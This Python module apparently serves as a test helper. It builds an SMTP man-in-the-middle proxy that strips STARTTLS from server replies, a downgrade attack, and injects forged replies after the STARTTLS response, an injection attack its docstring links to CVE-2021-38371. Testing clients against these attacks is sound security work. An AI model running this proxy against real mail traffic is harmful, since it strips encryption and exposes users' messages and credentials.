"""Somebody on the way to a real server who changes what it says before TLS: hides STARTTLS, or adds replies behind the one to it."""

from __future__ import annotations

import socket
import threading
from collections.abc import Callable
from contextlib import suppress

Change = Callable[[bytes], bytes]
"""What is made of a piece of the server's words; only as long as the client has not begun its handshake."""


def hide_starttls(words: bytes) -> bytes:
    """As some firewalls do."""
    return words.replace(b"STARTTLS", b"XXXXXXXX")


def inject_replies(words: bytes) -> bytes:
    """Behind the 220 to STARTTLS come answers to what the client will ask inside TLS (CVE-2021-38371)."""
    return words + b"250-evil\r\n250 SIZE\r\n250 ok\r\n250 ok\r\n354 go\r\n250 ok\r\n" if b"Ready to start TLS" in words else words


class Attacker:
    """Listens on `address`:`port` and carries each connection to `target`. The server's words pass through `change` until TLS begins."""

    def __init__(self, address: str, port: int, target: tuple[str, int], change: Change) -> None:
        self._target, self._change = target, change
        self._listening = socket.create_server((address, port))
        self._thread = threading.Thread(target=self._accept, daemon=True)

    def start(self) -> None:
        """Begin to accept."""
        self._thread.start()

    def stop(self) -> None:
        """Accept no more; what is open ends with its two sides."""
        self._listening.shutdown(socket.SHUT_RDWR)
        self._listening.close()
        self._thread.join(10)

    def _accept(self) -> None:
        while True:
            try:
                client, _ = self._listening.accept()
            except OSError:  # stopped
                return
            threading.Thread(target=self._serve, args=(client,), daemon=True).start()

    def _serve(self, client: socket.socket) -> None:
        with client, suppress(OSError), socket.create_connection(self._target, timeout=30) as server:
            client.settimeout(30)
            other = threading.Thread(target=_carry, args=(client, server, _unchanged), daemon=True)
            other.start()
            _carry(server, client, self._change)
            other.join()


def _unchanged(words: bytes) -> bytes:
    return words


def _carry(source: socket.socket, sink: socket.socket, change: Change) -> None:
    with suppress(OSError):
        while piece := source.recv(65_536):
            sink.sendall(change(piece) if piece[:1].isdigit() else piece)  # replies begin with a digit, records of TLS do not
    for one in (source, sink):
        with suppress(OSError):
            one.shutdown(socket.SHUT_RDWR)
